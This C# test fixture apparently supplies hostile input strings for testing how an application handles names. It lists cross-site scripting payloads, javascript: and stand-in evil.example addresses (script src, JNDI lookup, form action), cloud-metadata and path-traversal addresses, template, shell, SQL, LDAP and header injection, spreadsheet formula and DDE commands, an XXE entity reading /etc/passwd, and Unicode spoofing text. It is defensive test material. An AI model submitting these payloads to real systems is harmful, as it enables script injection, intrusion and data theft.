namespace TrustPoint.Testing.Requests;

/// <summary>Names as nobody would give them who means well. A script among them sets <c>ran</c> on the window, so that it is seen.</summary>
public static class HostileNames
{
    /// <summary>As long as anything that is taken from outside.</summary>
    public static readonly string Huge = new('x', 65536);

    /// <summary>Scripts, markup and addresses; templates; text that turns others around or cannot be seen; formulas; what ends a string, a line or a program.</summary>
    public static readonly IReadOnlyList<string> All = [.. Markup, .. Addresses, .. Templates, .. Unseen, .. Formulas, .. Endings];

    private static string[] Markup =>
    [
        "<script>ran=1</script>", "<ScRiPt>ran=1</sCrIpT>", "<script >ran=1</script >", "<script\n>ran=1</script>", "<script/x>ran=1</script>", "<scr<script>ipt>ran=1</scr</script>ipt>",
        "\"><script>ran=1</script>", "'><script>ran=1</script>", "`><script>ran=1</script>", "]]><script>ran=1</script>", "--><script>ran=1</script>", "--!><script>ran=1</script>",
        "</title><script>ran=1</script>", "</textarea><script>ran=1</script>", "</script><script>ran=1</script>", "</style><script>ran=1</script>", "</td></tr></table><script>ran=1</script>", "</svg><script>ran=1</script>",
        "<script src=//evil.example/x></script>", "<script type=module>ran=1</script>", "<script async src=data:,ran=1></script>", "<noscript><p title='</noscript><script>ran=1</script>'>", "<!--><script>ran=1</script>-->",
        "<img src=x onerror=ran=1>", "<img/src=x/onerror=ran=1>", "<img src=x onerror=ran=1//", "<IMG SRC=x ONERROR=ran=1>", "\"><img src=x onerror=ran=1>", "<img srcset='x 1x' onerror=ran=1>", "<image src=x onerror=ran=1>",
        "<svg onload=ran=1>", "<svg/onload=ran=1>", "<svg><script>ran=1</script></svg>", "<svg><animate onbegin=ran=1 attributeName=x>", "<svg><a xlink:href='javascript:ran=1'>x</a></svg>", "<svg><use href='data:image/svg+xml,x'/></svg>",
        "<body onload=ran=1>", "<body onpageshow=ran=1>", "<iframe srcdoc='<script>parent.ran=1</script>'>", "<iframe src='javascript:parent.ran=1'>", "<object data='javascript:ran=1'>", "<embed src='javascript:ran=1'>",
        "<details open ontoggle=ran=1>", "<video><source onerror=ran=1>", "<audio src=x onerror=ran=1>", "<input autofocus onfocus=ran=1>", "<select autofocus onfocus=ran=1>", "<textarea autofocus onfocus=ran=1>",
        "<marquee onstart=ran=1>", "<dialog open onclose=ran=1>", "<p style=animation-name:x onanimationstart=ran=1>", "<style>@import 'javascript:ran=1'</style>", "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href='//evil.example/'>", "<form action=//evil.example><button>", "<button formaction='javascript:ran=1'>x", "<math><mi xlink:href='javascript:ran=1'>", "<template shadowrootmode=open><script>ran=1</script>",
        "<h1>TrustPoint says</h1>", "<a href=/sign-in>Sign in again</a>", "\" onmouseover=ran=1 x=\"", "' onfocus=ran=1 autofocus x='", " onclick=ran=1 ", "\" style=\"position:fixed;inset:0\" x=\"",
    ];

    private static string[] Addresses =>
    [
        "javascript:ran=1", "JaVaScRiPt:ran=1", " javascript:ran=1", "java\tscript:ran=1", "\u0001javascript:ran=1", "javascript://%0aran=1", "data:text/html,<script>ran=1</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:ran=1", "blob:x", "file:///etc/passwd", "//evil.example", "\\\\evil.example\\x", "https://evil.example", "http://169.254.169.254/", "../../../etc/passwd", "..\\..\\windows", "%00%2e%2e%2f", "/sign-in?to=//evil.example", "?text=x&sort=y#z",
    ];

    private static string[] Templates =>
    [
        "${ran=1}", "{{ran=1}}", "{{constructor.constructor('ran=1')()}}", "@(ran=1)", "@{ran=1;}", "<%= ran=1 %>", "#{ran=1}", "{% ran %}", "[[ran]]", "{0}", "{0:D99999999}", "%s%n%x", "$(id)", "`id`", "${jndi:ldap://evil.example/x}", "&lt;script&gt;ran=1", "&#60;script&#62;", "\\u003cscript>ran=1", "\\x3cscript>", "+ADw-script+AD4-",
    ];

    private static string[] Unseen =>
    [
        "\u202Egnp.exe", "abc\u202Edcba\u202C", "\u202Dabc", "\u202Babc", "\u202Aabc", "\u2066isolate\u2069", "\u2067isolate", "\u2068isolate", "\u200Epump", "\u200Fpump", "\u061Cpump", "pump\u200B-7", "pump\u200C-7", "pump\u200D-7", "\u2060pump", "\uFEFFpump-7", "\u00ADpump",
        "pump\u2028line", "pump\u2029paragraph", "\u180Epump", "\u115Fpump", "\u3164pump", "p\u0301\u0301\u0301\u0301ump", "p\u0489\u0489\u0489ump", "рumр-7", "ｐｕｍｐ-7", "\U0001D429\U0001D42E\U0001D426\U0001D429", "\U000E0041tag", "\uE000private", "\uFFFEnone", "\uFDD0none", "\u0378none",
        "pump\0-7", "\0", "\u0001\u0002\u001B[31mred", "\u001B]8;;//evil.example\u0007x", "\u007Fpump", "\u0085pump", "\u009B31mred", "pump\bx", "pump\u000Bx", "pump\u000Cx", "泵-7", "🔥🔥🔥", "👩‍👩‍👧‍👦", "مضخة", "משאבה",
    ];

    private static string[] Formulas =>
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1", "+cmd|' /C calc'!A0", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", "=HYPERLINK(\"//evil.example\")", "=IMPORTXML(\"//evil.example\",\"//a\")", "=WEBSERVICE(\"//evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "\"=1", "\",=1", "\";=1", "x;=1", "x;+1;", "x,=1", "x\t=1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)",
    ];

    private static string[] Endings =>
    [
        "'; DROP TABLE devices; --", "' OR '1'='1", "\") --", "CN=admin,O=Plant", "a\\,b", "pump\r\nSet-Cookie: x=y", "pump\r\n\r\n<script>ran=1</script>", "pump\nCRITICAL all is lost", "pump\ttab", "*)(uid=*))(|(uid=*", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "{\"admin\":true}", "\",\"admin\":\"", "null", "undefined", "NaN", "true", "-0", "1e309", "- yaml: &a [*a]", "!!x",
    ];
}
